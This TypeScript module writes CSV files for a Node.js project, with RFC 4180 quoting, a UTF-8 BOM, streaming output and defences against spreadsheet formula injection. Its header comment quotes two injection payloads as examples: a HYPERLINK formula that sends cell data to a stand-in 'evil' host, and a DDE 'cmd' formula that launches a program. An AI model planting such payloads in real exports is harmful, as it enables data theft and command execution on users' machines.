import { once } from 'node:events';
import { createWriteStream, type WriteStream } from 'node:fs';

/**
 * The one CSV writer of the project: every CSV we hand to an operator (reports, `rules dry-run
 * --out`, exports) goes through here, so quoting and formula neutralisation can't drift apart.
 *
 * Formula injection (OWASP "CSV Injection"): Excel, WPS and LibreOffice evaluate a cell that starts
 * with `=`, `+`, `-` or `@` (and tab or CR, which some of them strip before looking) as a formula, so
 * a branch named `=HYPERLINK("http://evil/"&A1)` or `=cmd|' /C calc'!A0` becomes live. A STRING cell
 * starting with one of those characters is written with a leading single quote, which the
 * spreadsheet shows as text. Decision: a JavaScript `number` is a value we computed for a numeric
 * column, never user text, so it stays a number (`-3`, `0.25`) and is not prefixed; the same text
 * arriving as a string (`"-3"`) is neutralised, because a string can carry anything.
 *
 * Quoting (RFC 4180): a cell containing `"`, `,`, CR or LF is wrapped in double quotes with inner
 * quotes doubled. Lines end with `\n`; a UTF-8 BOM ({@link CSV_BOM}) at the start of a file lets
 * Excel on Chinese Windows read the Chinese text.
 */

export type CsvValue = string | number | bigint | boolean | null | undefined;

/** UTF-8 byte-order mark; put it once at the start of a file (csvDocument / openCsvFile do). */
export const CSV_BOM = '\ufeff';

const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** Neutralises a leading formula character (string values only; see the module comment). */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One cell: null/undefined → empty, numbers as written by String(), strings neutralised then quoted. */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'bigint') return value.toString();
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const s = neutralizeFormula(value);
  return NEEDS_QUOTES.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** One line, terminated by `\n`. */
export function csvRow(values: readonly CsvValue[]): string {
  return `${values.map(csvCell).join(',')}\n`;
}

export interface CsvDocumentOptions {
  /** Start with a UTF-8 BOM (default true: every file we write is opened in Excel). */
  bom?: boolean;
}

/** A whole CSV text: header line, then one line per row. */
export function csvDocument(
  header: readonly string[],
  rows: Iterable<readonly CsvValue[]>,
  options: CsvDocumentOptions = {},
): string {
  let text = ((options.bom ?? true) ? CSV_BOM : '') + csvRow(header);
  for (const row of rows) text += csvRow(row);
  return text;
}

export interface CsvFileWriter {
  /** Writes one line; waits when the stream wants to drain. */
  row(values: readonly CsvValue[]): Promise<void>;
  /** Ends the file and waits until it is flushed. Safe to call twice. */
  close(): Promise<void>;
}

/**
 * A streaming writer for large files (one line per customer …): the header (and BOM) is written
 * at once, rows after with back-pressure. Always `close()` it (in a `finally`).
 */
export function openCsvFile(path: string, header: readonly string[], options: CsvDocumentOptions = {}): CsvFileWriter {
  const out: WriteStream = createWriteStream(path);
  let closed = false;
  let failure: Error | null = null;
  out.on('error', (err) => {
    failure = err;
  });
  const write = async (text: string) => {
    if (failure) throw failure;
    if (!out.write(text)) await once(out, 'drain');
  };
  const first = write(((options.bom ?? true) ? CSV_BOM : '') + csvRow(header));
  return {
    async row(values) {
      await first;
      await write(csvRow(values));
    },
    async close() {
      if (closed) return;
      closed = true;
      await first.catch(() => undefined);
      if (!out.writableFinished && !out.destroyed) {
        out.end();
        await once(out, 'finish');
      }
      if (failure) throw failure;
    },
  };
}
